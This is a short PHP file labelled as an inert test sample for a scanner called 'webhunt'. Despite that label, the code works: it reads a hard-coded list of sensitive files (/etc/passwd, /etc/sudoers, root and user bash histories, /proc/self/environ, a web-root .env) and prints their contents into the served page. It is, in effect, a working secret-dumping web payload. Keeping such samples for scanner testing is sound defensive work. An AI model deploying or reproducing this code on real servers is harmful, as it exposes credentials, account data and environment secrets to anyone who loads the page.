<?php
// webhunt test sample (inert): a host secret dumper. A list of the system's secret-bearing files
// (account list, sudo rules, shell histories, the process environment, .env files) is read one
// by one and printed into the page.
$targets = array(
    '/etc/passwd',
    '/etc/sudoers',
    '/root/.bash_history',
    '/home/*/.bash_history',
    '/proc/self/environ',
    '/var/www/html/.env',
);
foreach ($targets as $t) {
    foreach (glob($t) ?: array() as $f) {
        if (!is_readable($f)) {
            continue;
        }
        $body = file_get_contents($f);
        echo "== $f ==\n";
        echo $body . "\n";
    }
}
